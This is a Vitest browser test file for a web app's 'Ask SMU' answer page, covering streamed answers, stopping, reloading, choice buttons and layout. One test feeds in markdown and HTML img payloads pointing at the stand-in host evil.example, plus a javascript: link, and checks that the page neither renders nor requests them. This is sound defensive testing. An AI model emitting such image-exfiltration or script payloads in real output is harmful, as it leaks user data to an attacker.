import { afterEach, expect, test, vi } from 'vitest'
import { page } from 'vitest/browser'
import { expectSoundLayout } from '#test/components/accessibility.ts'
import { createMember } from '#test/components/members.ts'
import { openPage } from '#test/components/open-page.tsx'
import { interceptRequests, type SentRequest } from '#test/components/requests.ts'
import { fakeSynthesis } from '#test/fake-synthesis.ts'
import type { Answer } from '../ask.contract.ts'

const field = () => page.getByRole('textbox', { name: 'Your question' })
const askButton = () => page.getByRole('button', { name: 'Ask SMU', exact: true })
const response = () => page.getByRole('region', { name: "SMU's Response" })
const said = () => response().getByRole('status').first()
const beetles = 'How do I freeze cigars against beetles?'

const whole = (changes: Partial<Answer>): Answer => ({
  id: '00000000-0000-4000-8000-000000000001',
  conversationId: '00000000-0000-4000-8000-000000000002',
  answer: 'Bag them.',
  sources: [],
  refused: false,
  because: null,
  stopped: false,
  choices: [],
  next: [],
  ...changes,
})
afterEach(() => {
  vi.unstubAllGlobals()
})

const frame = (event: object) => new TextEncoder().encode(`data: ${JSON.stringify(event)}\n\n`)

/** An answer that says these words, and ends with the last event if there is one. */
function stream(texts: readonly string[], last?: Answer): Response {
  const body = new ReadableStream({
    start(controller) {
      for (const text of texts) controller.enqueue(frame({ text }))
      if (!last) return
      controller.enqueue(frame(last))
      controller.close()
    },
  })
  return new Response(body, { headers: { 'content-type': 'text/event-stream' } })
}

function answerWith(answer: (request: SentRequest) => Response): SentRequest[] {
  return interceptRequests((request, real) =>
    request.line === 'POST /api/ask' ? Promise.resolve(answer(request)) : real(),
  )
}

const questionsIn = (requests: SentRequest[]) =>
  requests
    .filter(({ line }) => line === 'POST /api/ask')
    .map(({ body }) => body as { id: string; question: string })

async function ask(): Promise<void> {
  await field().fill(beetles)
  await askButton().click()
}

async function openAsk(): Promise<void> {
  await createMember()
  await openPage('/dashboard/ask')
  await expect.element(askButton()).toBeVisible()
}

test('an answer has bold text, lists and links inside this site, and nothing else that a model may write', async () => {
  const answer = [
    '**Bag them** first, as [our page](/dashboard/ask/articles/beetles-and-freezing#freeze) says, or [theirs](https://maker.example/a).',
    '- close the bag\n- freeze it',
    '![x](https://evil.example/?d=beetles) <img src="https://evil.example/?e=1"> [press](javascript:alert%281%29)',
  ].join('\n\n')
  answerWith(() => stream([answer], whole({ answer })))
  await openAsk()
  await ask()
  await expect.element(said().getByText('Bag them', { exact: true })).toHaveProperty('tagName', 'STRONG')
  await expect.element(said().getByRole('listitem')).toHaveLength(2)
  await expect
    .element(said().getByRole('link', { name: 'our page' }))
    .toHaveAttribute('href', '/dashboard/ask/articles/beetles-and-freezing#freeze')
  await expect.element(said()).toHaveTextContent('or theirs.')
  await expect.element(said().getByRole('link')).toHaveLength(1)
  expect(said().element().querySelectorAll('img, script, iframe')).toHaveLength(0)
  expect(said().element().textContent).toContain('<img src=')
  const requested = performance.getEntriesByType('resource').map(({ name }) => new URL(name).hostname)
  expect(requested).not.toContain('evil.example')
  await expectSoundLayout()
})

test('an answer of ours says why no model wrote it, and what had been shown of another is gone', async () => {
  const because = 'Arturo took too long, so this is the standard text.'
  answerWith(() => stream(['Take a '], whole({ because })))
  await openAsk()
  await ask()
  // In the live region, which screen readers announce.
  await expect.element(said().getByText(because)).toBeVisible()
  await expect.element(said()).toHaveTextContent(`Bag them.${because}`)
  await expect.element(said()).not.toHaveTextContent('Take a')
})

test('the stop button ends the answer on the server as well, and what had been said stays', async () => {
  const requests = answerWith(() => stream(['Bag ', 'them']))
  await openAsk()
  await ask()
  await expect.element(said()).toHaveTextContent('Bag them')
  await page.getByRole('button', { name: 'Stop', exact: true }).click()
  await expect.element(response().getByText('Stopped.')).toBeVisible()
  await expect.element(said()).toHaveTextContent('Bag them')
  await expect.element(askButton()).toBeEnabled()
  const [{ id } = { id: '' }] = questionsIn(requests)
  await expect
    .poll(() => requests.filter(({ line }) => line === 'POST /api/ask/stop').map(({ body }) => body))
    .toEqual([{ id }])
})

test('R001: a page that is loaded again follows the answer, which is asked once', async () => {
  const requests = answerWith(() =>
    questionsIn(requests).length === 1 ? stream(['Bag ']) : stream(['Bag ', 'them.'], whole({})),
  )
  await openAsk()
  await ask()
  await expect.element(said()).toHaveTextContent('Bag')
  await openPage('/dashboard/ask')
  await expect.element(said()).toHaveTextContent('Bag them.')
  await expect.element(response().getByText(beetles)).toBeVisible()
  const [first, second] = questionsIn(requests)
  expect(second).toEqual(first)
  await openPage('/dashboard/ask')
  await expect.element(askButton()).toBeVisible()
  expect(questionsIn(requests)).toHaveLength(2)
})

test('a question under way and a draft are not there for the next member of the tab', async () => {
  const requests = answerWith(() => stream(['Bag ']))
  await openAsk()
  await ask()
  await expect.element(said()).toHaveTextContent('Bag')
  await openAsk()
  await expect.element(field()).toHaveValue('')
  await expect.element(response()).not.toBeInTheDocument()
  expect(questionsIn(requests)).toHaveLength(1)
})

test('an answer that was stopped says so, also where it is found again', async () => {
  answerWith(() => stream(['Bag '], whole({ answer: 'Bag', stopped: true })))
  await openAsk()
  await ask()
  await expect.element(response().getByText('Stopped.')).toBeVisible()
  await expect.element(response().getByRole('button', { name: 'Ask again' })).toBeVisible()
})

test('two questions to choose from are two buttons below the answer, and a press asks one of them', async () => {
  const choices = [
    'How do I cut a cigar with a tapered head without it unraveling?',
    'Why does my cigar unravel at the head?',
  ]
  const requests = answerWith(() =>
    questionsIn(requests).length === 1
      ? stream([], whole({ answer: `Do you mean “${choices[0]}” or “${choices[1]}”`, choices }))
      : stream([], whole({ next: ['How do I punch a cigar?'] })),
  )
  await openAsk()
  await ask()
  const which = () => response().getByRole('group', { name: 'Which one?' })
  await expect.element(which().getByRole('button')).toHaveLength(2)
  const [first] = which().getByRole('button').elements()
  expect(first).toHaveTextContent(choices[0]!)
  expect(first).toHaveAttribute('data-look', 'secondary')
  await expectSoundLayout()
  await which().getByRole('button', { name: choices[1]! }).click()
  await expect.element(said()).toHaveTextContent('Bag them.')
  expect(questionsIn(requests).at(-1)?.question).toBe(choices[1])
  await expect.element(which()).not.toBeInTheDocument()
})

test('the buttons below an answer begin where its text does', async () => {
  fakeSynthesis()
  answerWith(() => stream([], whole({})))
  await page.viewport(390, 844)
  await openAsk()
  await ask()
  const newConversation = response().getByRole('button', { name: 'New conversation' })
  await expect.element(newConversation).toBeVisible()
  const textLeft = said().element().getBoundingClientRect().left
  const label = document.createRange()
  label.selectNodeContents(newConversation.element())
  expect(Math.abs(label.getBoundingClientRect().left - textLeft)).toBeLessThan(1.5)
  const drawing = response().getByRole('button', { name: 'Listen' }).element().querySelector('svg')
  expect(Math.abs(drawing!.getBoundingClientRect().left - textLeft)).toBeLessThan(2.5)
})
